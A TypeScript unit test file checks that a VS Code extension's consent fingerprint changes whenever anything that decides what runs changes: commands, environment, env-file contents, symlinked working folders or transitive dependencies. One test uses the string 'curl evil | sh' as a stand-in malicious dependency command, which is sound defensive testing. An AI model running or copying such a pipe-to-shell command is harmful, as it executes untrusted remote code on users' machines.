import assert from 'node:assert/strict';
import type { BackendDefinition } from '../../../src/model/backendDefinition';
import { consentSubject } from '../../../src/vscode/consentSubject';
import { definitionOf, folderOf } from './definitions';

const asNamed = (path: string): Promise<string> => Promise.resolve(path);
const files = (content: Readonly<Record<string, string>>) => (path: string) => Promise.resolve(content[path]);

function subject(
  api: BackendDefinition,
  others: readonly BackendDefinition[] = [],
  content: Readonly<Record<string, string>> = {},
): Promise<string | undefined> {
  return consentSubject(folderOf('work', api, ...others), 'api', { NAME: 'dev' }, files(content), asNamed);
}

describe('consentSubject', () => {
  it('differs_with_everything_that_decides_what_runs', async () => {
    const base = definitionOf('api', { env: { A: '1' }, cwd: 'api' });
    const exec = { kind: 'exec', argv: ['check'] } as const;
    const subjects = await Promise.all([
      subject(base),
      consentSubject(folderOf('other', base), 'api', {}, files({}), asNamed),
      ...[
        { ...base, command: 'other' },
        { ...base, command: ['run', 'api'] },
        { ...base, cwd: 'web' },
        { ...base, env: { A: '2' } },
        { ...base, env: { A: '1', B: '' } },
        { ...base, envFile: ['.env'] },
        { ...base, port: 3000 },
        { ...base, ready: { ...base.ready, probes: [exec] } },
        { ...base, liveness: { probe: exec, periodMs: 1_000 } },
      ].map((definition) => subject(definition)),
    ]);
    assert.equal(new Set(subjects).size, subjects.length);
  });

  it('differs_when_a_dependency_of_a_dependency_runs_something_else', async () => {
    const api = definitionOf('api', { dependsOn: ['db'] });
    const db = definitionOf('db', { dependsOn: ['disk'] });
    const now = await subject(api, [db, definitionOf('disk')]);
    assert.notEqual(await subject(api, [db, definitionOf('disk', { command: 'curl evil | sh' })]), now);
    assert.equal(await subject(api, [db, definitionOf('disk'), definitionOf('unrelated')]), now);
  });

  it('differs_when_the_content_of_an_env_file_does', async () => {
    const api = definitionOf('api', { envFile: ['.env', '${workspaceFolder}/${env:NAME}.env'] });
    const subjects = await Promise.all([
      subject(api),
      subject(api, [], { '/work/.env': 'a' }),
      subject(api, [], { '/work/.env': 'b' }),
      subject(api, [], { '/work/.env': 'a', '/work/dev.env': 'c' }),
    ]);
    assert.equal(new Set(subjects).size, subjects.length);
  });

  it('differs_when_a_link_in_cwd_leads_elsewhere', async () => {
    const folder = folderOf('work', definitionOf('api', { cwd: '${env:NAME}/api' }));
    const leadingTo = (target: string | undefined): Promise<string | undefined> =>
      consentSubject(folder, 'api', { NAME: 'dev' }, files({}), (path) =>
        Promise.resolve(path === '/work/dev/api' ? target : 'another path'),
      );
    const subjects = await Promise.all([leadingTo('/work/one'), leadingTo('/work/two'), leadingTo(undefined)]);
    assert.equal(new Set(subjects).size, 3);
    assert.equal(await leadingTo('/work/one'), subjects[0]);
  });

  it('stays_the_same_for_what_starts_no_other_program', async () => {
    const plain = await subject(definitionOf('api', { env: { A: '1', B: '2' } }));
    assert.equal(await subject(definitionOf('api', { env: { B: '2', A: '1' }, idleTimeoutMs: 5 })), plain);
  });

  it('is_unknown_when_a_file_or_its_folder_can_be_named_only_at_the_start', async () => {
    assert.equal(await subject(definitionOf('api', { port: 'auto', cwd: '${port}' })), undefined);
    assert.equal(await subject(definitionOf('api', { port: 'auto', envFile: ['${port}.env'] })), undefined);
  });
});
